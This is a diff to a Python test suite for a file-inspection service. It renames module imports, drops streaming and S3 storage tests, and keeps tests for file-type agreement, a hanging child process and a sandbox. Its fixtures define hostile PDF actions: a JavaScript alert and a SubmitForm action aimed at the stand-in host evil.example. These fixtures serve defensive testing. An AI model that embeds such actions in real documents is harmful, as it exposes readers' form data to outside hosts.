@@ -1,24 +1,18 @@
 """Every kind of file gets a verdict, quickly, and a reason that tells what to do."""
 
-import hashlib
 import os
 import subprocess
 import sys
 import time
-from collections.abc import AsyncIterator, Callable
+from collections.abc import Callable
 from pathlib import Path
-from uuid import uuid4
 
 import pytest
 from pikepdf import Array, Dictionary, Encryption, Name, ObjectStreamMode, String
 
-from frontoffice.dossiers import inspection, inspector_child
-from frontoffice.dossiers.inspection import check_stored, inspect
-from frontoffice.kernel.errors import NotFound
-from frontoffice.kernel.storage import Altered, Storage
-from tests.dossiers import hostile as h
-from tests.engines import Engines
-from tests.storages import storage_as
+from frontoffice.documents import inspection, inspector_child
+from frontoffice.documents.inspection import inspect
+from tests.documents import hostile as h
 
 SCRIPT = {"S": Name.JavaScript, "JS": String("app.alert(1)")}
 SUBMIT = {"S": Name.SubmitForm, "F": String("http://evil.example")}
@@ -174,19 +168,6 @@ async def test_name_and_declared_type_must_agree_with_the_content(
     assert reason % verdict.params
 
 
-async def test_bytes_may_stream_in_and_nothing_stays_behind(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
-
-    async def chunks() -> AsyncIterator[bytes]:
-        data = h.pdf(pages=3)
-        for start in range(0, len(data), 100):
-            yield data[start : start + 100]
-
-    verdict = await inspect(chunks(), "a.pdf", "application/pdf")
-    assert (verdict.ok, verdict.pages) == (True, 3)
-    assert list(tmp_path.iterdir()) == []
-
-
 async def test_a_hanging_child_is_ended(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     hanging = tmp_path / "hanging.py"
     hanging.write_text("import time; time.sleep(60)")
@@ -229,38 +210,3 @@ def test_the_cage_holds(attempt: str, tmp_path: Path) -> None:
     result = subprocess.run(command, capture_output=True, timeout=30, check=False)
     assert result.returncode != 0
     assert not (tmp_path / "written").exists() or (tmp_path / "written").stat().st_size == 0
-
-
-@pytest.fixture
-async def s3(engines: Engines) -> AsyncIterator[Storage]:
-    async with storage_as(engines, "worker") as storage:
-        yield storage
-
-
-async def put(storage: Storage, data: bytes) -> tuple[str, str]:
-    key = str(uuid4())
-
-    async def once() -> AsyncIterator[bytes]:
-        yield data
-
-    stored = await storage.put_stream(key, once())
-    return key, stored.sha256
-
-
-async def test_a_good_object_reaches_clean(s3: Storage) -> None:
-    data = h.pdf()
-    key, sha256 = await put(s3, data)
-    for _ in range(2):
-        verdict = await check_stored(s3, key, "a.pdf", "application/pdf", expected_sha256=sha256)
-        assert verdict.ok
-    clean = b"".join([piece async for piece in s3.open(s3.clean, key, expected_sha256=sha256)])
-    assert hashlib.sha256(clean).hexdigest() == sha256
-
-
-async def test_a_bad_or_altered_object_does_not(s3: Storage) -> None:
-    key, sha256 = await put(s3, b"MZ")
-    assert not (await check_stored(s3, key, "a.pdf", "", expected_sha256=sha256)).ok
-    with pytest.raises(Altered):
-        await check_stored(s3, key, "a.pdf", "", expected_sha256="0" * 64)
-    with pytest.raises(NotFound):
-        _ = [piece async for piece in s3.open(s3.clean, key, expected_sha256=sha256)]
